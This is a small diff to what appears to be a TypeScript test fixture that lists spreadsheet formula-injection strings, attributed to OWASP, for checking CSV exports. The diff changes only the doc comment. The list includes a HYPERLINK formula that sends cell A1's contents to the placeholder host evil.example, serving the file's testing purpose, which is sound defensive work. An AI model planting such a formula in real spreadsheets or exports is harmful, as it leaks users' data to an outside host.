@@ -1,4 +1,7 @@
-/** Texts that spreadsheets carry out, as OWASP lists them: one row each for every CSV that is written. */
+/**
+ * Texts that spreadsheets execute, as OWASP lists them. Each CSV that is written gets one row per
+ * text.
+ */
 export const FORMULAS = [
   '=1+1',
   '=HYPERLINK("https://evil.example/?"&A1,"open")',
